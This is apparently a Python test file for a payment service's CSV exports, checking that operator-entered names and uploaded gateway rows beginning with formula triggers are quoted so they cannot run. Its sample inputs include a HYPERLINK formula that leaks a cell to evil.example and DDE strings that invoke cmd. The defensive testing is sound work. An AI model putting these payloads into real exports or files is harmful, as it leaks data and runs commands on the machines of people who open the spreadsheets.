"""CSV formula injection (OWASP): every CSV paybridge writes shows hostile text as text. Names an
operator typed and rows a gateway's file carried start with ``=``, ``+``, ``-``, ``@``, tab or CR;
a spreadsheet must not run them. Numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import httpx
import pytest

from app.text import spreadsheet_cell
from tests.factories import bill, make_account, make_client
from tests.test_reconciliation import URL, sandbox_csv, upload
from tests.test_reconciliation import world as world  # the fixture

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
HOSTILE = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _is_inert(cell: str) -> bool:
    """What a spreadsheet would not run: anything not starting with a formula trigger."""
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_trigger_is_quoted(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert cell == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5000, -5000),
        (Decimal("-12.5"), Decimal("-12.5")),
        (0.5833, 0.5833),
        ("-5000", "-5000"),  # a number written as text is still not a formula
        ("+84912345678", "+84912345678"),
        (None, ""),
        (True, "true"),
        ("Sở Tư pháp", "Sở Tư pháp"),
        ("a=b", "a=b"),
    ],
)
def test_numbers_and_ordinary_text_are_unchanged(value: Any, expected: Any) -> None:
    assert spreadsheet_cell(value) == expected


async def test_agency_names_in_the_report_csv_are_neutralised(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    province, department = "000.00.00.H77", "000.00.31.H77"
    for code, name, level, parent in (
        (province, HYPERLINK, "province", None),
        (department, "@SUM(1+1)*cmd|' /C calc'!A0", "department", province),
    ):
        body: dict[str, Any] = {"code": code, "name": name, "level": level}
        if parent:
            body["parent_code"] = parent
        r = await client.post("/admin/v1/agencies", json=body, headers=admin_headers)
        assert r.status_code == 201, r.text
    await make_account(client, admin_headers, "sandbox", agency_code=province)
    key, _, _ = await make_client(client, admin_headers, agency_codes=[province])
    headers = {"Authorization": f"Bearer {key}"}
    for agency in (province, department):
        r = await client.post(
            "/v1/payments",
            json=bill(agency_code=agency, dossier_code=f"{agency}-1", provider="sandbox"),
            headers={**headers, "Idempotency-Key": f"csv-{agency}"},
        )
        assert r.status_code == 201, r.text

    r = await client.get(
        "/v1/reports/online-payment",
        params={
            "from": "2026-11-01",
            "to": "2026-11-30",
            "agency_code": province,
            "group_by": "agency",
            "format": "csv",
        },
        headers=headers,
    )
    assert r.status_code == 200, r.text
    rows = _parse(r.content.decode("utf-8"))
    names = {row["key"]: row["name"] for row in rows}
    assert names[province] == "'" + HYPERLINK
    assert names[department] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for row in rows:
        assert all(_is_inert(cell) for cell in row.values()), row
    assert rows[-1]["bills_with_fee"] == "2"  # numbers are still numbers


async def test_rows_of_an_uploaded_gateway_file_are_neutralised_in_the_export(
    client: httpx.AsyncClient, admin_headers: dict[str, str], world: Any
) -> None:
    content = sandbox_csv(
        [
            (HYPERLINK, "@SUM(1+1)", 50000, "success"),
            ("+1+cmd|' /C calc'!A0", "-2+3", 20000, "success"),
        ]
    )
    r = await upload(client, admin_headers, world, content)
    assert r.status_code == 201, r.text
    run = r.json()
    assert HYPERLINK in {item["reference"] for item in run["items"]}  # JSON keeps the data as it came

    r = await client.get(f"{URL}/{run['id']}", params={"format": "csv"}, headers=admin_headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = _parse(r.text)
    assert len(rows) == 2
    for row in rows:
        assert all(_is_inert(cell) for cell in row.values()), row
    by_line = {row["line_number"]: row for row in rows}
    assert by_line["2"]["reference"] == "'" + HYPERLINK
    assert by_line["2"]["provider_transaction_id"] == "'@SUM(1+1)"
    assert by_line["2"]["their_amount"] == "50000"
    assert by_line["3"]["provider_transaction_id"] == "'-2+3"
